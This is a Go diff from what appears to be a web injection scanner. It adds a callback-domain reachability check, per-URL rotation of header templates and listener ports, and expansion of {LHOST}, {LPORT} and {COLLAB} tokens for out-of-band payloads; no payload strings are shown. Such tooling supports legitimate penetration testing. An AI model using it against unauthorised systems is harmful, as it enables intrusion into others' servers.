+// request, so a typo'd or expired callback domain shows up before the run.
+// Any HTTP response counts as reachable.
+func checkCollab(domain string) ([]string, error) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	host := domain
+	if h, _, err := net.SplitHostPort(domain); err == nil {
+		host = h
+	}
+	addrs, err := net.DefaultResolver.LookupHost(ctx, host)
 	if err != nil {
-		return 0, err
+		return nil, fmt.Errorf("dns lookup: %w", err)
+	}
+	client := &http.Client{Timeout: 5 * time.Second}
+	resp, err := client.Get("http://" + domain + "/")
+	if err != nil {
+		return addrs, fmt.Errorf("http request: %w", err)
 	}
-	io.Copy(io.Discard, resp.Body)
 	resp.Body.Close()
+	return addrs, nil
+}
+
+// rotationSlot is the rotating template and -lport entry one URL is sent with.
+type rotationSlot struct {
+	tpl, port int
+}
 
-	return resp.StatusCode, nil
+// rotationAt pairs template tpl with the port for input position pos. Ports
+// cycle per request, so the first len(lports) URLs already use every one.
+func rotationAt(pos, tpl int) rotationSlot {
+	port := 0
+	if len(lports) > 0 {
+		port = pos % len(lports)
+	}
+	return rotationSlot{tpl: tpl, port: port}
+}
+
+// assignTemplates fixes the rotating template of every URL by its position in
+// the input, so concurrency does not change which URL gets which payload.
+// Seed 0 is plain round robin; other seeds draw each position's template from
+// a generator seeded with it. Replays and every method of a URL share its
+// template; a URL listed twice keeps the one of its first position.
+func assignTemplates(urls []string, seed int64) map[string]rotationSlot {
+	n := len(rotatingHeaderTemplates)
+	rng := rand.New(rand.NewSource(seed))
+	out := make(map[string]rotationSlot, len(urls))
+	for pos, u := range urls {
+		i := pos % n
+		if seed != 0 {
+			i = rng.Intn(n)
+		}
+		if _, ok := out[u]; !ok {
+			out[u] = rotationAt(pos, i)
+		}
+	}
+	return out
+}
+
+// parsePorts splits a comma list of TCP ports, dropping duplicates.
+func parsePorts(spec string) ([]string, error) {
+	var out []string
+	seen := make(map[string]bool)
+	for _, p := range strings.Split(spec, ",") {
+		p = strings.TrimSpace(p)
+		if p == "" {
+			continue
+		}
+		if n, err := strconv.Atoi(p); err != nil || n < 1 || n > 65535 {
+			return nil, fmt.Errorf("bad port %q", p)
+		}
+		if !seen[p] {
+			seen[p] = true
+			out = append(out, p)
+		}
+	}
+	return out, nil
+}
+
+// loadHeaderTemplates decodes a JSON array of header maps for -templates.
+// Every entry needs at least one header, and names must be non-empty.
+func loadHeaderTemplates(path string) ([]map[string]string, error) {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return nil, err
+	}
+	var tpls []map[string]string
+	if err := json.Unmarshal(b, &tpls); err != nil {
+		return nil, err
+	}
+	if len(tpls) == 0 {
+		return nil, fmt.Errorf("%s has no templates", path)
+	}
+	for i, t := range tpls {
+		if len(t) == 0 {
+			return nil, fmt.Errorf("template %d is empty", i+1)
+		}
+		for k := range t {
+			if strings.TrimSpace(k) == "" {
+				return nil, fmt.Errorf("template %d has an empty header name", i+1)
+			}
+		}
+	}
+	return tpls, nil
 }
 
-// expandHeaderTemplate replaces ip/port and {burp.collaborator.com} placeholders.
+// expandHeaderTemplate replaces the {LHOST}, {LPORT} and {COLLAB} tokens, the
+// same ones inserter.go payloads use. Tokens whose value is empty are left as is.
 func expandHeaderTemplate(t map[string]string, host, port, collaborator string) map[string]string {
 	out := make(map[string]string, len(t))
 	c := collaborator
@@ -312,18 +3659,19 @@ func expandHeaderTemplate(t map[string]string, host, port, collaborator string)
 	c = strings.TrimPrefix(c, "http://")
 	c = strings.TrimPrefix(c, "https://")
 
+	var pairs []string
+	if host != "" {
+		pairs = append(pairs, "{LHOST}", host)
+	}
+	if port != "" {
+		pairs = append(pairs, "{LPORT}", port)
+	}
+	if c != "" {
+		pairs = append(pairs, "{COLLAB}", c)
+	}
+	r := strings.NewReplacer(pairs...)
 	for k, v := range t {
-		x := v
-		if host != "" {
-			x = strings.ReplaceAll(x, "ip", host)
-		}
-		if port != "" {
-			x = strings.ReplaceAll(x, "port", port)
-		}
-		if c != "" {
-			x = strings.ReplaceAll(x, "{burp.collaborator.com}", c)
-		}
-		out[k] = x
+		out[k] = r.Replace(v)
 	}
 	return out
 }